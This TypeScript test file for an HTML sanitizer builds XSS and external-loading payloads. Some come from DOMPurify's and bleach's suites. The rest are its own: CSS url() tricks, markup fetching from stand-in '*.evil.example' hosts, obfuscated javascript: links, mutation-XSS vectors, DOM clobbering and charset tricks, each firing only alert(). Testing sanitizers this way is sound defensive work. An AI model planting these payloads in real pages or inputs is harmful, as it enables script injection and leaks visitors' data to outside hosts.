/** What strangers may write: collections that others keep, and our own. */
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";

import { wanted } from "../system.ts";

export interface Case {
  name: string;
  html: string;
}

/** Every payload that DOMPurify's own tests once had as a file; later versions publish none. */
export function dompurify(): Case[] {
  const fixtures = createRequire(import.meta.url)("dompurify-payloads/test/fixtures/expect.js") as readonly { title?: string; payload: string }[];
  return fixtures.map(({ title, payload }, index) => ({ name: `dompurify ${index} ${title ?? ""}`.trim(), html: payload }));
}

/** What bleach's tests clean; `cargo xtask test` reads it from the package, see `bleach.py`. */
export function bleach(): Case[] {
  const payloads = JSON.parse(readFileSync(wanted("BROWSER_BLEACH"), "utf8")) as readonly string[];
  return payloads.map((html, index) => ({ name: `bleach ${index}`, html }));
}

/** A foreign host of the case's own, so that a request says whose it is. */
const at = (name: string) => `http://${name.replaceAll(/[^a-z0-9]+/g, "-")}.evil.example`;

const run = (name: string) => `alert(&quot;${name}&quot;)`;

/** A style's way to load something. */
const styles: Record<string, (url: string) => string> = {
  "css url": (url) => `background: url(${url})`,
  "css url quoted": (url) => `background-image: url( '${url}' )`,
  "css url second": (url) => `background: url(data:image/png;base64,AAAA), url(${url})`,
  "css url after a quoted bracket": (url) => `background: url('data:image/png;)'), url(${url})`,
  "css url upper case": (url) => `BACKGROUND: URL(${url})`,
  "css url escaped": (url) => `background: \\75 rl(${url})`,
  "css url escaped within": (url) => `background: u\\72l(${url})`,
  "css url with a comment": (url) => `background: ur/**/l(${url}); background: /* */url(${url})`,
  "css url in a variable": (url) => `--a: url(${url}); background: var(--a)`,
  "css image-set": (url) => `background: image-set('${url}' 1x)`,
  "css -webkit-image-set": (url) => `background: -webkit-image-set(url(${url}) 1x)`,
  "css cross-fade": (url) => `background: -webkit-cross-fade(url(data:image/png;base64,AAAA), url(${url}), 50%)`,
  "css src": (url) => `background: src('${url}')`,
  "css image": (url) => `background: image('${url}')`,
  "css list": (url) => `display: list-item; list-style: url(${url})`,
  "css list image": (url) => `display: list-item; list-style-image: url(${url})`,
  "css cursor": (url) => `cursor: url(${url}), auto`,
  "css content": (url) => `content: url(${url})`,
  "css border image": (url) => `border: 9px solid; border-image: url(${url}) 9`,
  "css filter": (url) => `filter: url(${url}#a)`,
  "css mask": (url) => `mask: url(${url}); -webkit-mask-image: url(${url})`,
  "css clip": (url) => `clip-path: url(${url}#a)`,
  "css unbalanced quote": (url) => `font-family: 'x; background: url(${url})`,
  "css newline": (url) => `font-family: 'x\n; background: url(${url})`,
  "css declaration in brackets": (url) => `width: calc(1px; background: url(${url})`,
};

const attribute = (value: string) => value.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

/** Markup that loads something by itself, given the address of a foreign host. */
const loads: Record<string, (url: string) => string> = {
  image: (url) => `<img src="${url}/a.png">`,
  "image without a scheme": (url) => `<img src="${url.replace("http:", "")}/a.png">`,
  "image with a backslash": (url) => `<img src="${url.replace("//", "\\\\")}/a.png"><img src="${url.replace("http://", "/\\")}/a.png">`,
  "image with a line end in it": (url) => `<img src="ht\ntp://${url.slice(7)}/a.png"><img src="\t${url}/b.png">`,
  "image with a user": (url) => `<img src="http://127.0.0.1@${url.slice(7)}/a.png">`,
  "image by set": (url) => `<img srcset="${url}/a.png 1x"><picture><source srcset="${url}/b.png"><img></picture>`,
  "image of old": (url) => `<img lowsrc="${url}/a" dynsrc="${url}/b"><image src="${url}/c"><input type=image src="${url}/d">`,
  background: (url) => `<body background="${url}/a"><table background="${url}/b"><tr><td background="${url}/c">x</table>`,
  media: (url) => `<video src="${url}/a" poster="${url}/b" autoplay></video><audio src="${url}/c" autoplay></audio><video><source src="${url}/d"><track src="${url}/e" default></video>`,
  "style element": (url) => `<style>@import "${url}/a"; @import url(${url}/b); body { background: url(${url}/c) } @font-face { font-family: x; src: url(${url}/d) } * { font-family: x }</style>text`,
  "style sheet": (url) => `<link rel=stylesheet href="${url}/a"><?xml-stylesheet href="${url}/b"?>`,
  hints: (url) => ["preload", "prefetch", "preconnect", "dns-prefetch", "modulepreload", "icon", "manifest", "prerender", "import"].map((rel) => `<link rel=${rel} as=image href="${url}/${rel}">`).join(""),
  "speculation rules": (url) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}/a"]}]}</script>`,
  "script by address": (url) => `<script src="${url}/a.js"></script><script type=module src="${url}/b.js"></script><svg><script href="${url}/c.js"></script></svg>`,
  frames: (url) => `<iframe src="${url}/a"></iframe><frameset><frame src="${url}/b"></frameset><portal src="${url}/c"></portal><fencedframe src="${url}/d"></fencedframe>`,
  objects: (url) => `<object data="${url}/a"></object><embed src="${url}/b"><applet code="${url}/c" archive="${url}/d"></applet><object><param name=movie value="${url}/e"></object>`,
  "svg images": (url) => `<svg><image href="${url}/a"/><image xlink:href="${url}/b"/><use href="${url}/c#x"/><feImage href="${url}/d"/></svg>`,
  "svg style": (url) => `<svg><style>@import "${url}/a";</style><rect fill="url(${url}/b#c)" style="filter: url(${url}/d#e)"/></svg>`,
  "math style": (url) => `<math><mtext><style>@import "${url}/a";</style></mtext></math>`,
  refresh: (url) => `<meta http-equiv=refresh content="0; url=${url}/a">`,
  "refresh in noscript": (url) => `<noscript><meta http-equiv=refresh content="0; url=${url}/a"></noscript>`,
  "base and what is relative": (url) => `<base href="${url}/"><img src=a.png><a href=b>x</a>`,
  "policy of its own": (url) => `<meta http-equiv=content-security-policy content="img-src *"><meta name=referrer content=unsafe-url><img src="${url}/a">`,
  "link with a ping": (url) => `<a href="#x" ping="${url}/a">x</a>`,
  "citation and profile": (url) => `<blockquote cite="${url}/a">x</blockquote><head profile="${url}/b"></head><html manifest="${url}/c">`,
  "shadow root": (url) => `<div><template shadowrootmode=open><img src="${url}/a"><style>@import "${url}/b"</style></template></div>`,
  "end of the document": (url) => `</body></html><img src="${url}/a">`,
  "bgsound and layer": (url) => `<bgsound src="${url}/a"><layer src="${url}/b"></layer><ilayer src="${url}/c"></ilayer>`,
};

/** Markup that runs a script, given one. Scripts have no quotes but `&quot;`. */
const runs: Record<string, (script: string, raw: string) => string> = {
  script: (_, raw) => `<script>${raw}</script><SCRIPT>${raw}</SCRIPT><script type=module>${raw}</script>`,
  "script in script": (_, raw) => `<scr<script>ipt>${raw}</scr</script>ipt>`,
  "error of an image": (script) => `<img src=x onerror="${script}"><img src=data:image/png;base64,x onerror="${script}">`,
  "load of an image": (script) => `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="${script}">`,
  "handlers without a separator": (script) => `<img/src="x"/onerror="${script}"><svg/onload="${script}">`,
  "handlers of all kinds": (script) => ["onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "onwheel", "oncopy", "onbeforetoggle"].map((name) => `<p tabindex=0 ${name}="${script}">x</p>`).join(""),
  "by itself": (script) => `<details open ontoggle="${script}"></details><marquee onstart="${script}"></marquee><input autofocus onfocus="${script}"><video src=x onerror="${script}"></video>`,
  body: (script) => `<body onload="${script}" onpageshow="${script}" onresize="${script}" onmessage="${script}">`,
  "svg load": (script, raw) => `<svg onload="${script}"><script>${raw}</script><animate onbegin="${script}" attributeName=x dur=1s /><set onbegin="${script}"/></svg>`,
  "svg foreign object": (script) => `<svg><foreignObject><iframe srcdoc="<script>parent.${script}</script>"></iframe><img src=x onerror="${script}"></foreignObject></svg>`,
  "svg link": (script) => `<svg><a href="javascript:${script}" xlink:href="javascript:${script}"><text y=20>x</text></a><a><animate attributeName=href values="javascript:${script}"/><text y=40>x</text></a></svg>`,
  "math link": (script) => `<math><maction actiontype=statusline xlink:href="javascript:${script}">x</maction><mi href="javascript:${script}">x</mi></math>`,
  "mutation by math and glyph": (script) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  "mutation by forms": (script) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${script}">`,
  "mutation by svg and style": (script) => `<svg></p><style><a id="</style><img src=1 onerror='${script}'>">`,
  "mutation by noscript": (script) => `<noscript><p title="</noscript><img src=x onerror='${script}'>">`,
  "mutation by title and textarea": (script) => `<svg><title><a title="</title><img src onerror='${script}'>"></svg><textarea><a title="</textarea><img src=x onerror='${script}'>"></textarea>`,
  "comment that ends early": (script) => `<!--><img src=x onerror="${script}">--><!--!><img src=x onerror="${script}">--!><!--a--!><img src=x onerror="${script}">`,
  "instruction and CDATA": (script) => `<?x ><img src=x onerror="${script}">?><![CDATA[<img src=x onerror="${script}">]]><%x ><img src=x onerror="${script}">%>`,
  "raw text": (script) => `<xmp><p title="</xmp><img src=x onerror='${script}'>"></xmp><noembed><p title="</noembed><img src=x onerror='${script}'>"></noembed><plaintext><img src=x onerror="${script}">`,
  "css expression": (script) => `<p style="width: expression(${script}); behavior: url(#default#time2); -moz-binding: url(x#y)">x</p>`,
  "javascript links": (script) =>
    ["javascript:", "JaVaScRiPt:", "java\tscript:", "java&NewLine;script&colon;", " javascript:", "\u0001javascript:", "&#106;avascript:", "javascript&#58;", "vbscript:", "livescript:", "javascript://%0a"]
      .map((scheme) => `<a href="${scheme}${script}">x</a>`)
      .join(""),
  "data links": (_, raw) => `<a href="data:text/html,<script>${raw}</script>">x</a><a href="data:text/html;base64,${Buffer.from(`<script>${raw}</script>`).toString("base64")}">x</a><a href="blob:null/x">x</a><a href="filesystem:http://x/y">x</a>`,
  "image map": (script) => `<img usemap="#m" width=99 height=99><map name=m><area shape=default href="javascript:${script}"></map>`,
  "frame with its own document": (_, raw) => `<iframe srcdoc="&lt;script&gt;parent.${attribute(raw)}&lt;/script&gt;"></iframe><iframe src="javascript:${attribute(raw)}"></iframe><iframe src="data:text/html,<script>${attribute(raw)}</script>"></iframe>`,
  "object with its own document": (_, raw) => `<object data="data:text/html,<script>${attribute(raw)}</script>"></object><embed src="data:text/html,<script>${attribute(raw)}</script>"><object type=text/html data="javascript:${attribute(raw)}"></object>`,
  forms: (script) => `<form action="javascript:${script}"><button autofocus>x</button><input type=submit formaction="javascript:${script}"></form><isindex action="javascript:${script}" type=image>`,
  clobbering: (script) => `<img name=body><img name=documentElement><form id=querySelectorAll><input name=parentElement></form><a id=parent href="javascript:${script}">x</a><img name=createRange>`,
  "template and custom element": (script) => `<template><img src=x onerror="${script}"></template><x-y onclick="${script}" style="display:block">x</x-y><button popovertarget=p>x</button><div id=p popover onbeforetoggle="${script}">x</div>`,
  "utf-7 and a charset of its own": (_, raw) => `<meta charset=utf-7>+ADw-script+AD4-${raw}+ADw-/script+AD4-<meta http-equiv=content-type content="text/html; charset=iso-2022-jp">\u001b$B<a title="\u001b(B"><img src=x onerror='${raw}'>`,
};

/** Our own. */
export function own(): Case[] {
  return [
    ...Object.entries(styles).map(([name, style]) => ({ name, html: `<div style="${attribute(style(`${at(name)}/a`))}">text</div><table><tr style="${attribute(style(`${at(name)}/b`))}"><td>text</table>` })),
    ...Object.entries(loads).map(([name, markup]) => ({ name, html: `<p>text</p>${markup(at(name))}` })),
    ...Object.entries(runs).map(([name, markup]) => ({ name, html: `<p>text</p>${markup(run(name), `alert("${name}")`)}` })),
  ];
}
